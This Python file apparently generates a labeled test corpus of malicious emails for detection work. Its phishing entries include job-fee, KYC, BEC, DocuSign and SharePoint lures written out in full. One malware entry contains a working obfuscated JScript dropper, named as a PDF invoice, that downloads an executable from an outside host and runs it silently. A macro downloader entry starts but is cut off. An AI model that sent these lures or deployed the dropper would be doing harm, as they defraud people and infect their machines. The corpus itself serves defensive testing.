             "- a gold necklace set, an iPhone 16 and 25,000 pounds cash for our engagement shopping.\n\n"
             "The courier agent Mrs. Sunita from Skyline Express just called me. The parcel has reached Delhi airport "
             "but customs is asking for clearance charges of Rs. 48,500 because of the foreign currency. I cannot pay from "
             "UK because my Indian account is not active and my cards are blocked for international use.\n\n"
             "Please my dear, pay the amount today to the customs agent account below and I will return it double when I "
             "land in Kochi on 2nd March. Do not tell anyone at home yet, I want it to be a surprise.\n\n"
             "Account Name: Sunita Logistics Services\nBank: Punjab National Bank\nA/c No: " + digits(tag, 14) + "\n"
             "IFSC: PUNB0" + digits(tag + "i", 6) + "\n\n"
             "Send me the payment screenshot on WhatsApp +44 7" + digits(tag + "w", 9) + ".\n\n"
             "Forever yours,\nDr. Rohan Mehta\nConsultant Cardiologist, Manchester\n")
    html = gmail_html(plain.split("\n"))
    head = gmail_head(addr("Dr Rohan Mehta", sender), rcpt, "Our surprise parcel is at Delhi customs - please help today", date, tag)
    ip, rdns, helo = gmail_conn(tag)
    body = alt(gmail_boundary(tag), plain, html, upper_cs=True)
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "gmail.com", GMAIL_OUT)], head=head, body=body)


@entry("b41-phish-naukri-tcs-fee", "phishing",
       "Fake TCS job offer to a fresher 'selected through Naukri', from a look-alike recruitment domain with a PDF offer "
       "letter, demanding a 'refundable' Rs 4,500 security deposit to a personal bank account/UPI before joining.")
def naukri_fee() -> bytes:
    tag = "tcs1"
    date = "Thu, 08 May 2025 12:46:19 +0530"
    rcpt = "harsha.vardhan.gnt@gmail.com"
    sender = "talent.acquisition@tcs-careers-india.com"
    pdf = files.pdf(["TATA CONSULTANCY SERVICES", "OFFER OF EMPLOYMENT", "", "Date: 08-05-2025", "",
                     "Dear Harsha Vardhan,", "We are pleased to offer you the position of Assistant System Engineer - Trainee",
                     "at our Hyderabad (Synergy Park) campus. CTC: Rs. 3,36,000 per annum.", "",
                     "Date of Joining: 26-05-2025", "", "Pre-joining formalities:",
                     "1. Refundable security deposit for laptop and ID card: Rs. 4,500",
                     f"   UPI: tcs.onboarding{digits(tag, 3)}@ybl (payee: Ravi Kumar - Onboarding Officer)",
                     "2. Submit payment screenshot with Aadhaar and PAN by reply mail within 48 hours.", "",
                     "Offer will be withdrawn automatically if the deposit is not received.", "",
                     "For Tata Consultancy Services Ltd.", "Talent Acquisition Group"], title="TCS Offer Letter")
    html = html_page("""<div style="font-family:Calibri,Arial;font-size:14px">Dear Candidate,<br><br>
Congratulations! Based on your profile on Naukri.com and the virtual interview held on 06-05-2025, you have been
<b>selected for the role of Assistant System Engineer - Trainee</b> at Tata Consultancy Services.<br><br>
Please find attached your offer letter. To confirm your joining, complete the pre-joining formalities mentioned in the
letter, including the <b>refundable security deposit of Rs. 4,500</b>, within 48 hours.<br><br>
Regards,<br>Ravi Kumar<br>Talent Acquisition Group<br>Tata Consultancy Services</div>""")
    head = "\n".join([
        f"From: {addr('TCS Talent Acquisition', sender)}",
        f"To: {rcpt}",
        "Subject: Offer Letter - Assistant System Engineer Trainee - Tata Consultancy Services",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm', 20)}.{digits(tag + 'm2', 8)}@tcs-careers-india.com>",
        "MIME-Version: 1.0",
        "User-Agent: Roundcube Webmail/1.6.6",
    ])
    body = mixed(f"=_{hx(tag + 'b', 32)}", [
        alt(f"=_{hx(tag + 'c', 32)}", strip_tags(html), html, "quoted-printable"),
        attachment("application/pdf", "TCS_Offer_Letter_Harsha_Vardhan.pdf", pdf),
    ])
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip="217.21.87.14", rdns="mx1.hostinger.in",
                    helo="mx1.hostinger.in", spf="pass", dmarc="absent", dkim=[("pass", "tcs-careers-india.com", "hostingermail1")],
                    head=head, body=body)


@entry("b41-phish-linkedin-infosys-form", "phishing",
       "Fake Infosys recruiter message 'shortlisted after LinkedIn review' from a Gmail account, sending the candidate to a "
       "genuine Google Forms page to upload Aadhaar/PAN and pay a background-verification fee (abuse of a genuine platform).")
def linkedin_form() -> bytes:
    tag = "inf1"
    date = "Tue, 14 Oct 2025 11:05:59 +0530"
    rcpt = "sneha.kulkarni.pune@gmail.com"
    sender = "infosys.hr.recruitment.team@gmail.com"
    form = f"https://docs.google.com/forms/d/e/1FAIpQLS{b64(tag + 'f', 50).replace('/', '_').replace('+', '-')}/viewform?usp=sf_link"
    plain = ("Dear Sneha,\n\n"
             "Greetings from Infosys!\n\n"
             "We reviewed your LinkedIn profile and you have been shortlisted for the position of Senior Associate - "
             "Data Analytics (Work from home / Pune) with a package of 9.2 LPA.\n\n"
             "Please fill the candidate onboarding form below and upload Aadhaar, PAN, last 3 months payslips and a cancelled "
             "cheque. Background verification charges of Rs. 2,999 (fully refundable with first salary) must be paid through "
             "the link in the form to schedule your final HR discussion.\n\n"
             f"{form}\n\n"
             "Kindly complete this within today as the slots are limited.\n\n"
             "Thanks & Regards,\nAnjali Deshmukh\nTalent Acquisition - Infosys Ltd.\n")
    html = gmail_html([l if "docs.google" not in l else f'<a href="{form}">Infosys Candidate Onboarding Form</a>' for l in plain.split("\n")])
    head = gmail_head(addr("Infosys Talent Acquisition", sender), rcpt,
                      "Shortlisted - Senior Associate Data Analytics - Infosys (Complete onboarding form)", date, tag)
    ip, rdns, helo = gmail_conn(tag)
    body = alt(gmail_boundary(tag), plain, html, upper_cs=True)
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "gmail.com", GMAIL_OUT)], head=head, body=body)


@entry("b41-phish-lic-bonus-hindi", "phishing",
       "Hindi LIC 'your policy bonus of Rs 1,84,000 is ready / lapsed policy will be closed, update bank details' lure "
       "sent via a compromised Indian shared-hosting mailbox, linking to a look-alike LIC customer portal.")
def lic_bonus() -> bytes:
    tag = "lic1"
    date = "Mon, 09 Dec 2024 09:27:41 +0530"
    rcpt = "ramesh.chandra1958@rediffmail.com"
    sender = "admin@shivshaktijewellers.in"
    pol = digits(tag, 9)
    link = f"https://licindia-customerportal.in/ebiz/policy-bonus?p={pol}"
    html = html_page(f"""<div style="max-width:620px;font-family:Arial,'Noto Sans Devanagari';font-size:15px;line-height:1.7;border:1px solid #ccc">
<div style="background:#ffcc00;padding:12px;color:#004b8d;font-weight:bold">भारतीय जीवन बीमा निगम | Life Insurance Corporation of India</div>
<div style="padding:18px">प्रिय पॉलिसीधारक,<br><br>
आपकी पॉलिसी संख्या <b>{pol}</b> पर अर्जित बोनस <b>&#8377;1,84,000</b> भुगतान हेतु स्वीकृत हो गया है।<br>
बैंक खाता विवरण (NEFT) अपडेट न होने के कारण भुगतान रुका हुआ है। 3 दिनों में अपडेट न करने पर राशि जब्त कर ली जाएगी।<br><br>
<a href="{link}" style="background:#004b8d;color:#fff;padding:10px 22px;text-decoration:none">बोनस प्राप्त करें</a><br><br>
LIC ग्राहक सेवा विभाग</div></div>""", "LIC", "hi")
    head = "\n".join([
        f"Date: {date}",
        f"To: {rcpt}",
        f"From: {addr('LIC India', sender)}",
        f"Subject: {enc('LIC पॉलिसी बोनस ₹1,84,000 भुगतान हेतु तैयार – बैंक विवरण अपडेट करें')}",
        f"Message-ID: <{b64(tag + 'pm', 42).replace('/', '').replace('+', '')}@shivshaktijewellers.in>",
        "X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)",
        "MIME-Version: 1.0",
    ])
    body = alt(phpmailer_boundary(tag), strip_tags(html) + f"\n{link}\n", html, "base64")
    return assemble(provider="rediff", rcpt=rcpt, mailfrom=sender, ip="103.211.216.57", rdns="sg2plcpnl0198.prod.sin2.secureserver.net",
                    helo="sg2plcpnl0198.prod.sin2.secureserver.net", spf="pass", dmarc="none",
                    dkim=[("pass", "shivshaktijewellers.in", "default")], head=head, body=body,
                    hops=[exim_hop("shivshaktijewellers.in", "196.251.71.37", "sg2plcpnl0198.prod.sin2.secureserver.net", sender, rcpt, tag)])


@entry("b41-phish-jio-sim-kyc-callback", "phishing",
       "Hinglish 'your Jio SIM will be blocked in 24 hours, e-KYC pending, call customer care' callback scam from a Gmail "
       "account with only a phone number (leads to remote-access app install and OTP theft).")
def jio_sim() -> bytes:
    tag = "jio1"
    date = "Wed, 30 Jul 2025 13:55:20 +0530"
    rcpt = AMIT[1]
    sender = "jio.kyc.verification.desk@gmail.com"
    phone = "70" + digits(tag, 8)
    plain = ("Dear Jio User,\n\n"
             "Aapka Jio SIM (+91 XXXXX" + digits(tag + "m", 5) + ") ka e-KYC documents verify nahi hue hain. TRAI ke naye "
             "niyam ke anusar aapka SIM aur saare recharge 24 ghante mein BAND kar diye jayenge.\n\n"
             f"SIM band hone se bachane ke liye turant Jio KYC Executive ko call karein: {phone}\n"
             "(Call karte waqt apna Aadhaar number tayyar rakhein. Verification 5 minute mein phone par hi ho jayega.)\n\n"
             "Team Jio\nReliance Jio Infocomm Ltd.\n")
    html = gmail_html(plain.split("\n"))
    head = gmail_head(addr("Jio KYC Team", sender), rcpt, "Jio SIM Block Alert - e-KYC Pending - Call Now", date, tag)
    ip, rdns, helo = gmail_conn(tag)
    body = alt(gmail_boundary(tag), plain, html, upper_cs=True)
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "gmail.com", GMAIL_OUT)], head=head, body=body)


@entry("b41-phish-m365-appraisal-aitm", "phishing",
       "HR lure to an IT-company employee: 'revised compensation letter FY 2025-26 shared with you' from a look-alike HR "
       "domain, linking to a Cloudflare Pages adversary-in-the-middle Microsoft 365 sign-in kit with the victim's address prefilled.")
def m365_appraisal() -> bytes:
    tag = "hr1"
    date = "Thu, 03 Apr 2025 10:31:14 +0530"
    rcpt = KARTHIK[1]
    sender = "hr.operations@navyuginfotech-hr.com"
    email_b64 = base64.b64encode(rcpt.encode()).decode()
    link = f"https://navyug-hrdocs.pages.dev/?doc=Compensation_FY26#{email_b64}"
    paras = [f"Hi Karthik,", "",
             "As part of the annual appraisal cycle, your <b>Revised Compensation Letter for FY 2025-26</b> has been released and "
             "shared with you securely through the HR document portal.", "",
             "Please review and acknowledge the letter before <b>5th April 2025</b> so that the revised salary is processed in April payroll.", "",
             f'<a href="{link}">View Compensation Letter (PDF, 214 KB)</a>', "",
             "You will be asked to sign in with your Navyug Microsoft 365 account.", "",
             "Regards,", "HR Operations", "Navyug Infotech Pvt. Ltd."]
    html = outlook_html(paras)
    head = "\n".join([
        f"From: {addr('HR Operations - Navyug Infotech', sender)}",
        f"To: {addr(KARTHIK[0], rcpt)}",
        "Subject: Revised Compensation Letter FY 2025-26 - Karthik Subramanian",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm', 32)}@navyuginfotech-hr.com>",
        "MIME-Version: 1.0",
        "X-Mailer: Microsoft Outlook 16.0",
        "Importance: High",
    ])
    body = alt(f"----=_NextPart_000_0035_01DBA4{hx(tag + 'b', 2).upper()}.{hx(tag + 'c', 8).upper()}",
               strip_tags("<br>".join(paras)) + f"\n{link}\n", html, "quoted-printable")
    return assemble(provider="m365", rcpt=rcpt, mailfrom=sender, ip="172.86.119.34", rdns="mail.navyuginfotech-hr.com",
                    helo="mail.navyuginfotech-hr.com", spf="pass", dmarc="pass", policy_="none",
                    dkim=[("pass", "navyuginfotech-hr.com", "mail")], head=head, body=body,
                    hops=[postfix_sub_hop("mail.navyuginfotech-hr.com", tag, rcpt, "[172.86.119.34] (unknown [102.67.14.201])")])


@entry("b41-phish-docusign-form16", "phishing",
       "Genuine DocuSign envelope notification (passes docusign.net SPF/DKIM/DMARC) sent from a fraudster's account named "
       "'Navyug Payroll' to an employee: 'Form 16 and salary revision FY 2024-25 - review and sign', leading to a credential page.")
def docusign_form16() -> bytes:
    tag = "ds1"
    date = "Fri, 20 Jun 2025 06:12:37 +0000"
    rcpt = NEHA[1]
    sender = "dse_NA4@docusign.net"
    link = (f"https://na4.docusign.net/Signing/EmailStart.aspx?a={hx(tag + 'a', 8)}-{hx(tag + 'a2', 4)}-{hx(tag + 'a3', 4)}-"
            f"{hx(tag + 'a4', 4)}-{hx(tag + 'a5', 12)}&etti=24&acct={hx(tag + 'ac', 8)}-{hx(tag + 'ac2', 4)}-{hx(tag + 'ac3', 4)}-"
            f"{hx(tag + 'ac4', 4)}-{hx(tag + 'ac5', 12)}&er={hx(tag + 'er', 8)}-{hx(tag + 'er2', 4)}-{hx(tag + 'er3', 4)}-{hx(tag + 'er4', 4)}-{hx(tag + 'er5', 12)}")
    html = html_page(f"""<table style="font-family:Helvetica,Arial,sans-serif;background:#eaeaea;width:100%" cellpadding="0" cellspacing="0"><tr><td>
<table align="center" style="max-width:640px;background:#fff" cellpadding="0" cellspacing="0">
<tr><td style="padding:10px 24px"><img src="https://na4.docusign.net/Signing/Images/email/Email_Logo.png" alt="DocuSign" width="116"></td></tr>
<tr><td style="padding:0 24px 30px 24px;background:#1e4ca1;color:#fff;text-align:center">
<img src="https://na4.docusign.net/member/Images/email/docInvite-white.png" width="75" height="75" alt=""><br>
<span style="font-size:16px;line-height:28px">Navyug Payroll sent you a document to review and sign.</span><br><br>
<a href="{link}" style="background:#ffc423;color:#333;padding:10px 24px;font-size:15px;text-decoration:none;font-weight:bold;border-radius:2px">REVIEW DOCUMENT</a></td></tr>
<tr><td style="padding:30px 24px 0 24px;font-size:16px;color:#000"><b>Navyug Payroll</b><br>
<span style="color:#666"><a href="mailto:payroll.navyuginfo@outlook.com">payroll.navyuginfo@outlook.com</a></span><br><br>
Dear Employee,<br><br>Please review and sign your Form 16 (Part A &amp; B) for FY 2024-25 and the revised salary structure
effective 1st July 2025. Signing is mandatory for ITR filing and payroll processing.<br><br>Thank You,<br>Payroll Team</td></tr>
<tr><td style="padding:30px 24px 24px 24px;font-size:11px;color:#666;background:#eaeaea"><b>Do Not Share This Email</b><br>
This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.<br><br>
<b>Alternate Signing Method</b><br>Visit Docusign.com, click 'Access Documents', and enter the security code:<br>{hx(tag + 'sc', 32).upper()}1<br><br>
<b>About Docusign</b><br>Sign documents electronically in just minutes. It's safe, secure, and legally binding.<br><br>
<b>Questions about the Document?</b><br>If you need to modify the document or have questions about the details in the document,
please reach out to the sender by emailing them directly.</td></tr></table></td></tr></table>""", "Docusign")
    plain = strip_tags(html).replace("REVIEW DOCUMENT", f"REVIEW DOCUMENT\n{link}")
    head = "\n".join([
        f"Message-ID: <{hx(tag + 'mid', 32)}@docusign.net>",
        f"Date: {date}",
        f"From: {addr('Navyug Payroll via Docusign', sender)}",
        f"Reply-To: {addr('Navyug Payroll', 'payroll.navyuginfo@outlook.com')}",
        f"To: {addr(NEHA[0], rcpt)}",
        "Subject: Complete with Docusign: Form16_FY2024-25_Salary_Revision.pdf",
        "MIME-Version: 1.0",
        "X-Api-Host: na4",
        "X-DocuSign-Domain: na4",
    ])
    body = alt(f"----=_NextPart_{hx(tag + 'b', 8)}_{hx(tag + 'b2', 4)}_{hx(tag + 'b3', 4)}_{hx(tag + 'b4', 4)}_{hx(tag + 'b5', 12)}",
               plain, html, "quoted-printable")
    return assemble(provider="m365", rcpt=rcpt, mailfrom="bounces@docusign.net", ip="64.207.219.136", rdns="mailna4.docusign.net",
                    helo="mailna4.docusign.net", spf="pass", dmarc="pass", policy_="reject", dkim=[("pass", "docusign.net", "mail2")],
                    head=head, body=body)


@entry("b41-phish-sharepoint-po-compromised", "phishing",
       "Genuine SharePoint Online sharing notification from a steel supplier's compromised Microsoft 365 account to an "
       "accounts-payable mailbox: 'PO payment advice' OneNote shared on the vendor's real tenant, which links on to a phishing page.")
def sharepoint_share() -> bytes:
    tag = "sp1"
    date = "Tue, 25 Mar 2025 11:42:09 +0000"
    rcpt = FINAP[1]
    link = (f"https://jainsteelsindia-my.sharepoint.com/:o:/g/personal/rakesh_jainsteelsindia_com/"
            f"E{b64(tag + 'sp', 46).replace('/', 'x').replace('+', 'Q')}?e={an(tag + 'e', 6)}")
    html = html_page(f"""<table width="100%" cellpadding="0" cellspacing="0" style="font-family:'Segoe UI',sans-serif"><tr><td align="center">
<table width="520" cellpadding="0" cellspacing="0" style="border:1px solid #edebe9;padding:24px">
<tr><td style="font-size:21px;color:#323130;padding-bottom:16px">Rakesh Jain shared a file with you</td></tr>
<tr><td style="font-size:14px;color:#323130;padding:12px;background:#f3f2f1">Dear Sir/Madam, please find the PO payment advice and
ledger confirmation for Q4. Kindly review and confirm at the earliest. Regards, Rakesh</td></tr>
<tr><td style="padding:16px 0"><a href="{link}" style="color:#0078d4;font-size:15px;text-decoration:none">
<img src="https://res-1.cdn.office.net/files/fabric-cdn-prod_20230815.002/assets/item-types/48/onetoc.png" width="32" alt=""> Navyug_PO_Payment_Advice_Q4</a></td></tr>
<tr><td><a href="{link}" style="background:#0078d4;color:#fff;padding:8px 20px;text-decoration:none;font-size:14px">Open</a></td></tr>
<tr><td style="font-size:12px;color:#605e5c;padding-top:24px">This link only works for the direct recipients of this message.</td></tr>
<tr><td style="font-size:12px;color:#605e5c;padding-top:16px"><img src="https://res-1.cdn.office.net/assets/mail/microsoft-logo.png" width="80" alt="Microsoft"><br>
Microsoft respects your privacy. To learn more, please read our <a href="https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a>.<br>
Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr></table></td></tr></table>""", "Shared with you")
    head = "\n".join([
        f"From: {addr('Rakesh Jain', 'no-reply@sharepointonline.com')}",
        f"To: {rcpt}",
        "Subject: Rakesh Jain shared \"Navyug_PO_Payment_Advice_Q4\" with you",
        f"Date: {date}",
        f"Message-ID: <{hx(tag + 'm1', 8)}-{hx(tag + 'm2', 4)}-{hx(tag + 'm3', 4)}-{hx(tag + 'm4', 4)}-{hx(tag + 'm5', 12)}@odspnotify>",
        "Reply-To: rakesh@jainsteelsindia.com",
        "MIME-Version: 1.0",
    ])
    body = alt(f"--_{hx(tag + 'b', 32)}", strip_tags(html) + f"\n{link}\n", html, "quoted-printable")
    return assemble(provider="m365", rcpt=rcpt, mailfrom=f"no-reply@sharepointonline.com", ip="40.107.239.47",
                    rdns="mail-bmxind01on2047.outbound.protection.outlook.com", helo="IND01-BMX-obe.outbound.protection.outlook.com",
                    spf="pass", dmarc="pass", policy_="reject", dkim=[("pass", "sharepointonline.com", "selector1")],
                    head=head, body=body)


@entry("b41-phish-bec-vendor-bank-change", "phishing",
       "Vendor bank-change BEC: a look-alike of a supplier's domain (sharmaenqg vs sharmaengg) on Google Workspace replies "
       "about an open invoice and asks the buyer to pay to a 'new' IndusInd account, with a letterhead PDF of the new details.")
def bec_bank_change() -> bytes:
    tag = "bec1"
    date = "Mon, 17 Mar 2025 16:24:51 +0530"
    rcpt = KAVERI[1]
    sender = "accounts@sharmaenqg.co.in"
    acct = digits(tag, 12)
    pdf = files.pdf(["SHARMA ENGINEERING WORKS", "Plot 44, KIADB Industrial Area, Hebbal, Mysuru 570016", "GSTIN: 29AAKFS" + digits(tag + "g", 4) + "P1Z8", "",
                     "Date: 17-03-2025", "To, Kaveri Agro Foods, Mysuru", "",
                     "Sub: Change in bank account details", "",
                     "Due to ongoing statutory audit our current account with Canara Bank is under", "temporary freeze. Kindly make all payments to our new account:", "",
                     "Bank: IndusInd Bank, Bengaluru MG Road", f"A/c No: {acct}", "IFSC: INDB0000" + digits(tag + "i", 3), "",
                     "Authorised Signatory", "For Sharma Engineering Works"], title="Bank change letter")
    plain = ("Dear Sir/Madam,\n\n"
             "Thank you for confirming the GRN for our invoice SEW/24-25/0918 dated 21-02-2025 for Rs. 6,84,250/-.\n\n"
             "Please note that due to the ongoing year-end audit our Canara Bank current account is temporarily frozen. "
             "Kindly release the payment to our new IndusInd Bank account as per the attached letter on our letterhead. "
             "We request you to process the payment before 20th March so that we can close the books for FY 2024-25.\n\n"
             "Please do not use the old account details. Kindly confirm once the beneficiary is updated.\n\n"
             "Regards,\nPrakash Sharma\nAccounts Manager\nSharma Engineering Works\nMob: +91 98860 " + digits(tag + "m", 5) + "\n")
    html = gmail_html(plain.split("\n"))
    head = gmail_head(addr("Prakash Sharma - Sharma Engineering Works", sender), rcpt,
                      "Re: Payment for Invoice SEW/24-25/0918 - Updated Bank Details", date, tag,
                      in_reply="<" + hx(tag + "ir", 20) + "@kaveriagrofoods.in>")
    ip, rdns, helo = gmail_conn(tag)
    body = mixed(gmail_boundary(tag), [alt(gmail_boundary(tag + "a"), plain, html, upper_cs=True),
                                       attachment("application/pdf", "SEW_Bank_Change_Letter.pdf", pdf)])
    return assemble(provider="zoho", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    policy_="none", dkim=[("pass", "sharmaenqg.co.in", "google")], head=head, body=body,
                    sign_h="to:subject:message-id:date:from:in-reply-to:references:mime-version:from:to:cc:subject:date:message-id:reply-to")


@entry("b41-phish-bec-md-giftcards", "phishing",
       "CEO-fraud BEC: a Gmail account using the managing director's name asks an employee if she is at her desk and "
       "wants Amazon Pay gift cards bought urgently for 'client gifting', codes to be sent by reply; no link.")
def bec_giftcards() -> bytes:
    tag = "bec2"
    date = "Wed, 23 Oct 2024 10:17:26 +0530"
    rcpt = NEHA[1]
    sender = "vikram.malhotra.navyug@gmail.com"
    plain = ("Hi Neha,\n\n"
             "Are you at your desk? I am in back to back meetings with the client at Gurugram and can't take calls right now.\n\n"
             "I need you to handle a confidential task for me. We have to send Diwali gifts to a few client stakeholders today. "
             "Please purchase Amazon Pay gift cards worth Rs. 10,000 each, 8 cards in total, from the Amazon app. "
             "I will get it reimbursed through finance tomorrow.\n\n"
             "Scratch the cards and send me the codes by reply mail as soon as possible. Keep this between us for now, "
             "it is a surprise for the client.\n\n"
             "Thanks,\nVikram Malhotra\nManaging Director\n\nSent from my iPhone\n")
    html = gmail_html(plain.split("\n"))
    head = gmail_head(addr("Vikram Malhotra", sender), rcpt, "Quick task", date, tag)
    ip, rdns, helo = gmail_conn(tag)
    body = alt(gmail_boundary(tag), plain, html, upper_cs=True)
    return assemble(provider="m365", rcpt=rcpt, mailfrom=sender, ip=ip, rdns=rdns, helo=helo, spf="pass", dmarc="pass",
                    dkim=[("pass", "gmail.com", GMAIL_OUT)], head=head, body=body)


@entry("b41-phish-reply-chain-hijack", "phishing",
       "Reply-chain hijack: a logistics partner's compromised Microsoft 365 mailbox answers a real freight-invoice thread "
       "with the quoted history and a 'reconciliation statement' link to an HTML page on an r2.dev bucket (credential phish).")
def reply_hijack() -> bytes:
    tag = "rch1"
    date = "Wed, 09 Apr 2025 14:52:33 +0530"
    rcpt = SGT[1]
    sender = "suresh.iyer@deccanlogistics.co.in"
    link = f"https://pub-{hx(tag, 32)}.r2.dev/Freight_Reconciliation_Mar25.html"
    prior = hx(tag + "prior", 12)
    paras = ["Dear Sir,", "",
             "As discussed, please find the freight reconciliation statement for March 2025 including the pending LR-wise "
             "debit notes. Kindly check and confirm the balance so that we can release the TDS certificate.", "",
             f'<a href="{link}">Freight_Reconciliation_Mar25.xlsx</a>', "",
             "Regards,", "Suresh Iyer", "Accounts | Deccan Logistics Pvt. Ltd.", "+91 40 4012 " + digits(tag, 4), "",
             "<hr>",
             "<b>From:</b> Accounts - Shree Ganesh Traders &lt;accounts@shreeganeshtraders.in&gt;<br><b>Sent:</b> Monday, April 7, 2025 4:18 PM<br>"
             "<b>To:</b> Suresh Iyer &lt;suresh.iyer@deccanlogistics.co.in&gt;<br><b>Subject:</b> RE: Freight invoices March 2025 - reconciliation",
             "",
             "Dear Suresh ji,", "We have received your invoices DL/2425/3312 to DL/2425/3341. There is a difference of Rs. 18,640 "
             "in our ledger. Please send the reconciliation statement.", "", "Regards,", "Hitesh Shah", "Shree Ganesh Traders, Surat", "",
             "<hr>",
             "<b>From:</b> Suresh Iyer &lt;suresh.iyer@deccanlogistics.co.in&gt;<br><b>Sent:</b> Friday, April 4, 2025 11:02 AM<br>"
             "<b>To:</b> accounts@shreeganeshtraders.in<br><b>Subject:</b> Freight invoices March 2025 - reconciliation",
             "", "Dear Sir,", "Please find attached our freight invoices for March 2025. Kindly process the payment.", "", "Regards,", "Suresh Iyer"]
    html = outlook_html(paras)
    head = "\n".join([
        f"From: {addr('Suresh Iyer', sender)}",
        f"To: {addr(SGT[0], rcpt)}",
        "Subject: RE: Freight invoices March 2025 - reconciliation",
        "Thread-Topic: Freight invoices March 2025 - reconciliation",
        f"Thread-Index: AQHbpO{b64(tag + 'ti', 18)}AAB{b64(tag + 'ti2', 12)}",
        f"Date: {date}",
        f"Message-ID: <PN0PR01MB{digits(tag, 4)}{upper(tag + 'm', 12)}@PN0PR01MB{digits(tag, 4)}.INDPRD01.PROD.OUTLOOK.COM>",
        f"References: <PN0PR01MB{digits(tag, 4)}{upper(prior, 12)}@PN0PR01MB{digits(tag, 4)}.INDPRD01.PROD.OUTLOOK.COM>\n"
        f" <{hx(tag + 'sgt', 16)}@shreeganeshtraders.in>",
        f"In-Reply-To: <{hx(tag + 'sgt', 16)}@shreeganeshtraders.in>",
        "Accept-Language: en-IN, en-US",
        "Content-Language: en-IN",
        "X-MS-Has-Attach:",
        "MIME-Version: 1.0",
    ])
    body = alt(outlook_boundary(tag, "PN0PR01MB"), strip_tags("<br>".join(paras)).replace("Freight_Reconciliation_Mar25.xlsx", f"Freight_Reconciliation_Mar25.xlsx <{link}>"),
               html, "base64")
    hops = [f"Received: from PN0PR01MB{digits(tag, 4)}.INDPRD01.PROD.OUTLOOK.COM\n ([fe80::{hx(tag + 'f', 4)}:{hx(tag + 'g', 4)}:{hx(tag + 'h', 4)}:{hx(tag + 'i', 4)}]) by "
            f"PN0PR01MB{digits(tag, 4)}.INDPRD01.PROD.OUTLOOK.COM\n ([fe80::{hx(tag + 'f', 4)}:{hx(tag + 'g', 4)}:{hx(tag + 'h', 4)}:{hx(tag + 'i', 4)}%4]) with mapi id 15.20.8632.017; {{T}}"]
    return assemble(provider="postfix", host=SGT_HOST, rcpt=rcpt, mailfrom=sender, ip="40.107.239.91",
                    rdns="mail-bmxind01on2091.outbound.protection.outlook.com", helo="IND01-BMX-obe.outbound.protection.outlook.com",
                    spf="pass", dmarc="pass", policy_="quarantine", dkim=[("pass", "deccanlogistics.co.in", "selector1")],
                    head=head, body=body, hops=hops)


@entry("b41-malware-invoice-js-zip", "malware",
       "Hindi/English 'tax invoice and payment reminder' from a steel trader's compromised cPanel mailbox to a small "
       "business on Gmail, with a zip holding an obfuscated JScript file named like a PDF invoice (WSH dropper).")
def invoice_js() -> bytes:
    tag = "inv1"
    date = "Thu, 26 Jun 2025 12:38:04 +0530"
    rcpt = "ravi.traders.nagpur@gmail.com"
    sender = "accounts@ambikasteels.com"
    inv = f"AS/25-26/{digits(tag, 4)}"
    js = ("var _0x4a1=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','\\x4d\\x53\\x58\\x4d\\x4c\\x32\\x2e\\x58\\x4d\\x4c\\x48\\x54\\x54\\x50'];\n"
          "var s=new ActiveXObject(_0x4a1[0]);var x=new ActiveXObject(_0x4a1[1]);\n"
          "x.open('GET','https://ambikasteels.com/wp-includes/css/inv.dat',false);x.send();\n"
          "var p=s.ExpandEnvironmentStrings('%TEMP%')+'\\\\inv.exe';var st=new ActiveXObject('ADODB.Stream');\n"
          "st.Type=1;st.Open();st.Write(x.responseBody);st.SaveToFile(p,2);st.Close();s.Run(p,0,false);\n").encode()
    zipped = files.zip_archive([(f"Tax_Invoice_{inv.replace('/', '_')}.pdf.js", js)])
    html = html_page(f"""<div style="font-family:Arial;font-size:13px">Namaste Ravi ji,<br><br>
Please find attached our Tax Invoice No. <b>{inv}</b> for the TMT bars supplied on 23-06-2025 along with the e-way bill copy.<br>
कृपया संलग्न बिल देखें और भुगतान 7 दिनों में करें। पिछला बकाया Rs. 1,26,400 भी लंबित है।<br><br>
Kindly acknowledge receipt.<br><br>
Thanks &amp; Regards,<br>Mahesh Agrawal<br>Ambika Steels, Raipur<br>Ph: 0771-40{digits(tag + 'ph', 5)}</div>""")
    head = phpmailer_head(addr("Ambika Steels Accounts", sender), rcpt, f"Tax Invoice {inv} - Payment Reminder", date,
                          "ambikasteels.com", tag, version="6.9.1").replace("X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
                                                                           "User-Agent: Roundcube Webmail/1.6.9")
    body = mixed(f"=_{hx(tag + 'b', 32)}", [
        alt(f"=_{hx(tag + 'c', 32)}", strip_tags(html), html, "quoted-printable"),
        attachment("application/zip", f"Tax_Invoice_{inv.replace('/', '_')}.zip", zipped),
    ])
    return assemble(provider="gmail", rcpt=rcpt, mailfrom=sender, ip="103.53.40.62", rdns="cp-in-6.webhostbox.net",
                    helo="cp-in-6.webhostbox.net", spf="pass", dmarc="absent", dkim=[("pass", "ambikasteels.com", "default")],
                    head=head, body=body,
                    hops=[exim_hop("ambikasteels.com", "141.98.10.77", "cp-in-6.webhostbox.net", sender, rcpt, tag)])


@entry("b41-malware-salary-docm", "malware",
       "Payroll lure to an IT-company employee from a payroll-outsourcing firm's compromised mailbox: 'salary revision "
       "letter 2025 - enable editing to view', a macro-enabled Word document whose AutoOpen macro runs a PowerShell downloader.")
def salary_docm() -> bytes:
    tag = "sal1"
    date = "Mon, 07 Apr 2025 09:14:40 +0530"
    rcpt = NEHA[1]
    sender = "payroll@paysquarehrsolutions.com"
    macro = ("Attribute VB_Name = \"NewMacros\"\n"
             "Sub AutoOpen()\n"
             "    Dim c As String\n"
